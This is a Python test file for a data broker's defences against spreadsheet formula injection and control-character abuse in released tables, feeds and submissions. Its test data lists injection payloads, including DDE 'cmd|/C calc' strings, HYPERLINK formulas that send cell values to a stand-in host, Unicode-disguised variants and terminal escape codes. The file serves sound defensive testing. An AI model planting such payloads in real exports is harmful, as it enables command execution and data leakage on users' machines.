"""Attacks by spreadsheet formulas: every writer of tables writes a formula as text. Numbers stay numbers."""

import csv
import io
import json
import re
import unicodedata
from dataclasses import replace
from datetime import UTC, datetime
from decimal import Decimal
from typing import Any
from unittest import mock
from xml.etree import ElementTree

import pytest
from flask import Flask
from hypothesis import given, strategies as st

from broker.disclosure.records.released_tables import released_csv
from broker.domain.csv_text import CELL_SEPARATORS, NUMBERS as NUMBER_LIKE, is_formula, without_formulas, write_csv
from broker.domain.errors import Invalid
from broker.domain.findings import Assessment, Verdict
from broker.domain.jobs.job import JobKind, Submission
from broker.domain.jobs.reviews import check_message_text
from broker.domain.jobs.script_requests import MicrodataProblem
from broker.domain.plain_text import check_plain_text, check_released_text, terminal_text
from broker.domain.ports import RegisterEntry
from broker.web.pages import register_pages
from broker.web.pages.register_pages import atom_feed, releases_as_csv
from broker.workflow.checking.submission_check import CheckedSubmission, check_submission
from broker.workflow.submission import job_submission
from broker.workflow.submission.job_submission import check_storable
from tests.attacks.script_town import broker as town, policies, project, rows, tabulated
from tests.attacks.test_rows_as_carriers import labelled
from tests.files import remake
from tests.unit.workflow.conftest import CLEO

pytestmark = pytest.mark.long

FORMULAS = [
    "=1+1|cmd", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0",
    '=HYPERLINK("http://x.example/?"&B2,"click")', '-HYPERLINK("http://x.example/?"&A1,"click")', "+ =HYPERLINK(1)",
    "-1+1|cmd", "'=1+1", '"=1+1', " \t =1+1", "\r=1+1", "\u200b=cmd()", "\ufeff=cmd()", "\u202e=cmd()",
    "\xa0=cmd()", "‘=cmd()", "＝cmd()", "﹦cmd()", "＋1+x", "﹢x", "－x+1", "﹣x+1", "＠SUM(1)", "﹫SUM(1)", "−1+cmd",
    "⁻1+cmd", "⁼cmd", "x;=cmd()", "x\n=cmd()", "\u3164=cmd()", "\x1b=cmd()", "'''=cmd()", "=\u200bcmd()", "-1 to 0",
    "%s=cmd()" % ("\u200b" * 50), "`=cmd()", "´@x", "«=x", "\u2800+x", "\ue000=x",
]  # fmt: skip
COMMAS = ["x,=cmd()", "LA, -1+1|cmd", "a,\u200b@SUM(1)", 'b,"=cmd()']
"""A text that is no table has no quotes around its commas."""
TEXTS = ["Barnet", "(-1, 0]", "A*", "=====", "+----+----+", "-", "--", "a = b", "5–9", "≥ 10", "mean -1", "x@y.example"]
NUMBERS = ["-3.5", "+4", "-1e-07", "-£5", "-12.5%", "−3.5", "-1,000", "-0.5 3.2 -4", "-0.3)", "-1.5]"]


def computes(cell: str) -> bool:
    """Another reading of the same: what stands first, once all is folded that shows nothing, and all but one quote."""
    bare = unicodedata.normalize("NFKC", cell).replace("−", "-")
    return bare[:1] in {"=", "+", "-", "@", "\t", "\r"}


def carried(*cells: str) -> list[str]:
    """Parts of cells that a spreadsheet computes."""
    return [part for cell in cells for part in cell.split(";") if computes(part)]


def cells_of(content: bytes) -> list[str]:
    return [cell for line in csv.reader(io.StringIO(content.decode(), newline="")) for cell in line]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_a_text_and_once_is_enough(text: str) -> None:
    assert is_formula(text)
    assert carried(without_formulas(text)) == []
    assert without_formulas(without_formulas(text)) == without_formulas(text)


@pytest.mark.parametrize("text", TEXTS + NUMBERS)
def test_numbers_and_texts_stay(text: str) -> None:
    assert without_formulas(text) == text


@given(st.text(st.sampled_from("=+-@'\"\t\r\n ;a1.％＝−\u200b\ufeff\xa0"), max_size=12))
def test_nothing_changes_a_second_time(text: str) -> None:
    assert without_formulas(without_formulas(text)) == without_formulas(text)
    parts = (
        part
        for part in CELL_SEPARATORS.split(without_formulas(text))[::2]
        if computes(part) and any(c.isalnum() for c in part)
    )
    assert all(NUMBER_LIKE.fullmatch(unicodedata.normalize("NFKC", part).replace("−", "-")) for part in parts)


@pytest.mark.parametrize("text", FORMULAS)
def test_no_file_of_a_script_carries_one(text: str) -> None:
    found = json.loads(remake("t.json", json.dumps({text: [[text + "b"]]}).encode()).content)
    left = {
        "csv": cells_of(remake("t.csv", written_raw([[text, "n"], [text + "b", "1"]])).content),
        "json": [cell for key, rows in found.items() for cell in (key, *rows[0])],
        "txt": remake("t.txt", text.encode()).content.decode().splitlines(),
    }
    for ending, cells in left.items():
        assert cells, ending
        assert carried(*cells) == [], ending


@pytest.mark.parametrize("line", COMMAS)
def test_a_comma_starts_a_cell_of_a_text(line: str) -> None:
    left = remake("t.txt", line.encode()).content.decode()
    assert not any(computes(part) for part in left.split(","))
    assert remake("t.txt", left.encode()).content.decode() == left


@pytest.mark.parametrize("line", ["fsm -3.5 (-3.9, -3.1)", "1, -2, -3.5", "(-1, -0.5] 400", "a, b - c"])
def test_numbers_behind_commas_stay(line: str) -> None:
    assert remake("t.txt", line.encode()).content.decode() == f"{line}\n"


def written_raw(lines: list[list[str]]) -> bytes:
    target = io.StringIO()
    csv.writer(target).writerows(lines)
    return target.getvalue().encode()


def test_a_typed_number_stays_one() -> None:
    assert remake("t.csv", b"LA,m\nA,-3.5\n").content == b"LA,m\nA,-3.5\n"
    assert json.loads(remake("t.json", b'[{"LA": "A", "m": -3.5}]').content) == [{"LA": "A", "m": -3.5}]


@pytest.mark.parametrize("text", FORMULAS)
def test_no_released_table_and_no_register_carries_one(text: str) -> None:
    row: Any = mock.Mock(released=(text, Decimal("-3.5")), suppressed=(False, False))
    *cells, number = cells_of(released_csv(Assessment("t", (text, "m"), 1, (row,), (), Verdict.PUBLISH, False)))
    assert carried(*cells) == []
    assert number == "-3.5"
    entry = RegisterEntry("r", text, text, ("a.csv", text), WHEN, False)
    assert carried(*cells_of(releases_as_csv([entry]))) == []


WHEN = datetime(2026, 11, 1, tzinfo=UTC)
WORDS = ["=HYPERLINK(1)", "+1", "@x", "-1", "＝cmd()", "'=cmd()", "- first aim"]
"""Beginnings of texts of people. A sign before a number is one as well: only words can be there."""


@pytest.mark.parametrize("field", ["title", "purpose", "descriptions"])
@pytest.mark.parametrize("text", WORDS)
def test_such_titles_and_descriptions_are_refused_at_submission(text: str, field: str) -> None:
    taken = Submission("P0421", JobKind.SQL, "tsql", "SELECT 1", "Absence", "A test.", (("n", "By year"),))
    check_storable(taken)
    with pytest.raises(Invalid) as refused:
        check_storable(replace(taken, **{field: (("n", text),) if field == "descriptions" else text}))
    assert (refused.value.code, refused.value.pointer) == ("spreadsheet-formula", f"/{field}")


def test_a_list_with_dashes_is_a_purpose() -> None:
    check_released_text("Our aims:\n- absence\n- progress", "purpose", "/purpose", lines=True)


def checked(text: str, kind: JobKind, dialect: str) -> CheckedSubmission:
    return check_submission(text, kind, dialect, project(), policies(), WHEN.date())


@pytest.mark.parametrize("text", WORDS)
def test_such_a_description_in_a_header_is_refused_at_check(text: str) -> None:
    script = f"# input: npd.spring_census [LA] 2022/2023\n# output: a.csv | {text}\nprint(1)\n"
    found = checked(script, JobKind.PYTHON, "")
    assert [(r.code, r.line, r.column) for r in found.refusals] == [("spreadsheet-formula", 2, 19)]


@pytest.mark.parametrize("text", WORDS)
def test_an_older_title_is_none_in_the_feed(text: str) -> None:
    entry = RegisterEntry("r", "P0421", text, ("a.csv",), WHEN, False)
    feed = ElementTree.fromstring(atom_feed([entry], [], "/register.atom", str))
    titles = [t.text.partition(": ")[2] for t in feed.iter("{http://www.w3.org/2005/Atom}title") if ": " in t.text]
    assert titles == [without_formulas(text, numbers=False)]


def test_an_older_title_is_none_in_the_manifest_and_the_register() -> None:
    with town() as broker:
        with mock.patch.object(job_submission, "check_released_text"):
            job, output = broker.ran(title="=cmd()", purpose="-1+1|cmd")
        assert broker.vote(CLEO, output.ident) == "released"
        manifest = json.loads(broker.store.manifest(broker.store.release_of(job).ident))
        assert (manifest["title"], manifest["purpose"]) == ("'=cmd()", "'-1+1|cmd")
        assert manifest["outputs"][0]["size"] > 0
        served = mock.patch.object(register_pages, "ports", return_value=broker.ports)
        with served, Flask("register").test_request_context():
            register = register_pages.register_json().json
    assert [r["title"] for r in register["releases"]] == ["'=cmd()"]


def test_there_is_one_writer_of_tables() -> None:
    assert write_csv(["=a()"], [["-x"], ["-3.5"]]) == b"'=a()\n'-x\n-3.5\n"


QUERY = "SELECT {key} AS {name}, COUNT(*) AS n FROM npd.spring_census WHERE AcademicYear = '2022/2023' GROUP BY {key}"


def refused(key: str = "LA", name: str = "la") -> list[str]:
    return [r.code for r in checked(QUERY.format(key=key, name=name), JobKind.SQL, "tsql").refusals]


@pytest.mark.parametrize("text", [f for f in FORMULAS if f.isprintable() and "]" not in f])
def test_such_aliases_and_labels_are_refused_at_check(text: str) -> None:
    label = text.replace("'", "''")
    assert set(refused(name=f"[{text}]")) in ({"spreadsheet-formula"}, {"character"})
    (code,) = refused(key=f"CASE WHEN SENprovision = 'N' THEN '{label}' ELSE 'x' END")
    assert code in {"spreadsheet-formula", "character"}


def test_what_a_condition_compares_with_is_no_label() -> None:
    assert refused(key="CASE WHEN SENprovision = '=1+x' THEN 'yes' ELSE '-' END") == []


@pytest.mark.parametrize("label", ["=HYPERLINK(1)", "-1+1", "+a", "@x1", "'=x1", "-1 to 0"])
def test_such_labels_of_submitted_rows_are_refused(label: str) -> None:
    assert tabulated(labelled(["primary", label]), by=["label"])[0].problem is MicrodataProblem.VALUES


def test_bands_of_numbers_are_labels() -> None:
    assert tabulated(labelled(["-1", "(-1, 0]", "-"]), by=["label"])[0].problem is None
    assert rows().num_rows


CONTROLS = ["\x1b[2J", "\x07", "\u202e", "\u2066", "\u200f", "\ufeff", "\x9b", "\u2028", "\U000e0041"]


@pytest.mark.parametrize("mark", CONTROLS)
def test_control_characters_are_refused_where_people_write_and_move_no_cursor_in_a_log(mark: str) -> None:
    for check in (lambda t: check_released_text(t, "title", "/title"), lambda t: check_message_text(t, "/text")):
        with pytest.raises(Invalid, match=re.escape(f"U+{ord(mark[0]):04X}")):
            check(f"a{mark}b")
    assert mark[0] not in terminal_text(f"one\n\t{mark}two\r\n")


@pytest.mark.parametrize("text", ["Ynys Môn — 5–9", "café\xa0au lait", "می\u200cخواهم"])
def test_words_of_people_are_taken(text: str) -> None:
    check_plain_text(text, "title", "/title")


def test_lines_stand_where_lines_may() -> None:
    check_plain_text("a\nb", "purpose", "/purpose", lines=True)
    with pytest.raises(Invalid):
        check_plain_text("a\nb", "title", "/title")


def test_lines_stand_in_a_log() -> None:
    assert terminal_text("one\r\ntwo\n") == "one\ntwo\n"
